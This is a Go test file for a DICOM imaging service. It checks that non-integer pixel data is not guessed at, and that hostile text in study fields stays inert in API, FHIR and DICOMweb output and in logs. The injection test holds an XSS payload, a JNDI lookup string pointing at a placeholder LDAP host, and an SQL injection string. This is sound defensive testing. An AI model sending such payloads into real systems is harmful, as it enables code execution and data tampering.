package main

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"github.com/neckfrac/neckfrac"
	"github.com/neckfrac/neckfrac/dicomnet/dataset"
	"github.com/neckfrac/neckfrac/dicomnet/dimse"
)

// putAll stores every slice of a study as change makes it.
func (r *running) putAll(t *testing.T, s testStudy, change func(dataset.Dataset) dataset.Dataset) {
	t.Helper()
	for k := range s.slices {
		if status := put(t, r.DICOMAddr, change(s.dataset(k))); status != dimse.Success {
			t.Fatalf("slice %d: %v", k, status)
		}
	}
}

// TestPixelsOfAnotherKindAreNotGuessed is reliability.md D15: float pixels are no HU, and
// what only looks like pixels is not taken for them.
func TestPixelsOfAnotherKindAreNotGuessed(t *testing.T) {
	t.Parallel()
	r := startService(t, nil)
	float, double, before := newStudy(1), newStudy(2), newStudy(3)
	instead := func(tag dataset.Tag, vr dataset.VR, size int) func(dataset.Dataset) dataset.Dataset {
		return func(ds dataset.Dataset) dataset.Dataset {
			var out dataset.Dataset
			for _, e := range ds {
				if e.Tag != dataset.TagPixelData {
					out = append(out, e)
				}
			}
			return out.Put(dataset.NewBytes(tag, vr, make([]byte, 64*64*size)))
		}
	}
	r.putAll(t, float, instead(0x7FE00008, dataset.OF, 4))
	r.putAll(t, double, instead(0x7FE00009, dataset.OD, 8))
	r.putAll(t, before, func(ds dataset.Dataset) dataset.Dataset {
		return ds.Put(dataset.NewBytes(0x00291010, dataset.OW, bytes.Repeat([]byte{0xE0, 0x7F, 0x10, 0x00}, 64))).Put(dataset.NewBytes(0x7F000010, dataset.OW, make([]byte, 64*64*2)))
	})
	for name, s := range map[string]testStudy{"float": float, "double": double} {
		if rec := r.await(t, s, 1); rec.Latest.Status != neckfrac.NotAnalysed || rec.Latest.Reason != neckfrac.PixelUnreadable {
			t.Errorf("%s: %s %s, want not analysed, pixel-unreadable", name, rec.Latest.Status, rec.Latest.Reason)
		}
	}
	if rec := r.await(t, before, 1); rec.Latest.Status != neckfrac.Analysed || rec.Latest.Slices != before.slices {
		t.Errorf("pixels in front of the pixels: %s %s of %d slices", rec.Latest.Status, rec.Latest.Reason, rec.Latest.Slices)
	}
}

// TestHostileTextStaysText is reliability.md D14: what a sender writes is data at every
// outlet and in no log line.
func TestHostileTextStaysText(t *testing.T) {
	t.Parallel()
	const markup, lookup, lines = `<img src=x onerror=alert(1)>`, `${jndi:ldap://192.0.2.1/a}`, "'; DROP TABLE study;--"
	r := startService(t, nil)
	s := newStudy(1)
	s.name = "CANARY^" + markup
	r.putAll(t, s, func(ds dataset.Dataset) dataset.Dataset {
		return ds.Put(dataset.NewText(dataset.TagStudyDescription, lookup)).Put(dataset.NewText(dataset.TagSeriesDescription, lines))
	})
	if rec := r.await(t, s, 1); rec.Latest.Status != neckfrac.Analysed || rec.Study.Description != lookup {
		t.Errorf("%s, description %q", rec.Latest.Status, rec.Study.Description)
	}
	base := "http://" + r.HTTPAddr
	pages := map[string]string{
		"api":  get(t, base+"/api/v1/studies/"+s.uid),
		"list": get(t, base+"/api/v1/studies"),
		"fhir": get(t, base+"/fhir/DiagnosticReport?identifier=urn:dicom:uid|urn:oid:"+s.uid),
		"qido": get(t, base+dicomWebPath+"/studies?PatientID="+s.patient.ID),
	}
	for name, body := range pages {
		if !json.Valid([]byte(body)) {
			t.Errorf("%s is no JSON", name)
		}
		if strings.Contains(body, "<img") {
			t.Errorf("%s holds markup as it came: it may be read as HTML by a client that sniffs", name)
		}
	}
	cards, body := r.hook(t, testSystem+"|"+s.patient.ID)
	if len(cards) != 1 || strings.Contains(body, "<img") {
		t.Errorf("%d cards: %s", len(cards), body)
	}
	for _, text := range []string{"onerror", "jndi", "DROP TABLE", "CANARY"} {
		if strings.Contains(r.log.String(), text) {
			t.Errorf("the log holds %q", text)
		}
	}
}
